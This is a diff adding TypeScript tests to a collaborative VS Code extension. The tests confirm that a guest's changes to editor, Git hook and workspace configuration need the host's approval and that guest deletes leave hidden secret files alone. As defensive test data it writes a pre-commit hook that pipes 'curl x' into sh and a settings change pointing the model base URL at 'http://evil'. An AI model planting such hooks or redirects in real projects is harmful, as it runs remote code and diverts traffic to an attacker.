@@ -3,13 +3,18 @@ import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
 import * as Y from 'yjs';
+import {
+  describeGuestChange,
+  type ApproveGuestChange,
+  type GuestChangeApproval,
+} from '../../../src/collab/guestBoundary';
 import { GuestFiles } from '../../../src/collab/guestFiles';
 import { FileOperationError, HostFiles } from '../../../src/collab/hostFiles';
 import { HostTree } from '../../../src/collab/hostTree';
 import { SessionDocument } from '../../../src/collab/sessionDocument';
 
 /** A host and a guest whose Y.Docs exchange updates directly, as the server would relay them. */
-function pair(root: string, readOnly = false) {
+function pair(root: string, readOnly = false, approve?: ApproveGuestChange) {
   const hostDoc = new Y.Doc();
   const guestDoc = new Y.Doc();
   hostDoc.on('update', (update: Uint8Array, origin: unknown) => {
@@ -27,6 +32,7 @@ function pair(root: string, readOnly = false) {
     session: hostSession,
     tree,
     editors: { text: () => undefined, save: async () => false },
+    approve,
   });
   const guest = new GuestFiles({
     session: guestSession,
@@ -163,6 +169,72 @@ describe('collab shared folder (host disk, guest view)', () => {
     assert.throws(() => guest.stat('/docs'), FileOperationError);
   });
 
+  it('asks the host before a guest changes VS Code, Git or Tandem configuration, and a denial changes nothing', async () => {
+    fs.mkdirSync(path.join(root, '.vscode'));
+    fs.writeFileSync(path.join(root, '.vscode', 'settings.json'), '{}\n');
+    const asked: GuestChangeApproval[] = [];
+    let allow = false;
+    const { tree, guest, guestSession } = pair(root, false, async (change) => {
+      asked.push(change);
+      return allow;
+    });
+    await tree.scan();
+    await guest.readFile('/.vscode/settings.json');
+    guestSession.text('.vscode/settings.json')!.insert(1, '"tandem.model.baseUrl": "http://evil"');
+    await rejectsWith(
+      guest.writeFile('/.vscode/settings.json', Buffer.from('{"tandem.model.baseUrl": "http://evil"}\n'), {
+        create: true,
+        overwrite: true,
+      }),
+      'NoPermissions',
+      /did not allow/,
+    );
+    assert.equal(fs.readFileSync(path.join(root, '.vscode', 'settings.json'), 'utf8'), '{}\n');
+    assert.equal(asked[0].path, '.vscode/settings.json');
+    assert.equal(asked[0].by, 'Bob');
+    assert.equal(asked[0].before, '{}\n');
+    assert.match(asked[0].after ?? '', /evil/);
+    assert.match(asked[0].reasons.join(' '), /VS Code configuration/);
+    // The refused edit is taken back out of the shared text.
+    assert.equal(guestSession.text('.vscode/settings.json')!.toString(), '{}\n');
+    for (const attempt of [
+      () => guest.writeFile('/.tandemignore', Buffer.from(''), { create: true, overwrite: true }),
+      () => guest.delete('/.tandemignore', false),
+      () =>
+        guest.writeFile('/.husky/pre-commit', Buffer.from('curl x | sh'), { create: true, overwrite: true }),
+      () => guest.writeFile('/app.code-workspace', Buffer.from('{}'), { create: true, overwrite: true }),
+      () => guest.rename('/notes.txt', '/.vscode/tasks.json', false),
+      () => guest.delete('/.vscode', true),
+    ])
+      await rejectsWith(attempt(), 'NoPermissions');
+    assert.equal(fs.readFileSync(path.join(root, '.tandemignore'), 'utf8'), 'secret.txt\n');
+    assert.ok(!fs.existsSync(path.join(root, '.husky')));
+    assert.ok(fs.existsSync(path.join(root, 'notes.txt')));
+    assert.ok(asked.length >= 7, 'the host was asked each time');
+    allow = true;
+    await guest.writeFile('/.tandemignore', Buffer.from('secret.txt\nmore/\n'), {
+      create: true,
+      overwrite: true,
+    });
+    assert.equal(fs.readFileSync(path.join(root, '.tandemignore'), 'utf8'), 'secret.txt\nmore/\n');
+  });
+
+  it('a recursive delete or rename never touches files hidden from the guest', async () => {
+    fs.mkdirSync(path.join(root, 'src', 'deep'));
+    fs.writeFileSync(path.join(root, 'src', 'deep', 'a.ts'), 'a');
+    fs.writeFileSync(path.join(root, 'src', '.env.local'), 'SECRET=1');
+    fs.writeFileSync(path.join(root, 'src', 'deep', 'id_rsa'), 'KEY');
+    const { tree, guest } = pair(root);
+    await tree.scan();
+    await rejectsWith(guest.rename('/src', '/lib', false), 'NoPermissions', /not shared with you/);
+    assert.ok(fs.existsSync(path.join(root, 'src', 'main.ts')));
+    await guest.delete('/src', true);
+    assert.ok(!fs.existsSync(path.join(root, 'src', 'main.ts')));
+    assert.ok(!fs.existsSync(path.join(root, 'src', 'deep', 'a.ts')));
+    assert.equal(fs.readFileSync(path.join(root, 'src', '.env.local'), 'utf8'), 'SECRET=1');
+    assert.equal(fs.readFileSync(path.join(root, 'src', 'deep', 'id_rsa'), 'utf8'), 'KEY');
+  });
+
   it('refuses paths outside the folder and excluded files', async () => {
     const { tree, guest } = pair(root);
     await tree.scan();
@@ -239,5 +311,22 @@ describe('collab shared folder (host disk, guest view)', () => {
     fs.writeFileSync(path.join(root, 'src', 'main.ts'), 'export const x = 3;\n');
     await host.diskChanged('src/main.ts');
     assert.equal(guestSession.text('src/main.ts')!.toString(), '// unsaved\nexport const x = 2;\n');
+  });
+});
+
+describe('collab: the host prompt for a guest change', () => {
+  it('names who asks for what, says why, and shows the diff', () => {
+    const { message, detail } = describeGuestChange({
+      by: 'Bob',
+      op: 'save',
+      path: '.vscode/settings.json',
+      reasons: ['changes VS Code configuration (settings and tasks can run commands)'],
+      before: '{\n  "a": 1\n}\n',
+      after: '{\n  "a": 1,\n  "tandem.model.baseUrl": "http://evil"\n}\n',
+    });
+    assert.equal(message, 'Bob wants to change .vscode/settings.json on your disk. Allow it?');
+    assert.match(detail, /^This changes VS Code configuration/);
+    assert.match(detail, /^- {3}"a": 1$/m);
+    assert.match(detail, /^\+ {3}"tandem\.model\.baseUrl": "http:\/\/evil"$/m);
   });
 });
